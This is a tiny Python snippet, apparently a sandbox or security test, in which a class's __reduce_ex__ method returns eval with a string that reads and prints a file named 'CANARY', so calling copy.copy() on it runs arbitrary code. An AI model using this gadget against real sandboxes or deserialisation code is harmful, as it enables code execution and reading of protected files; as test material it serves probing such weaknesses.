import copy

class Trick:
    def __reduce_ex__(self, level):
        return (eval, ("print(open('CANARY').read())",))

copy.copy(Trick())
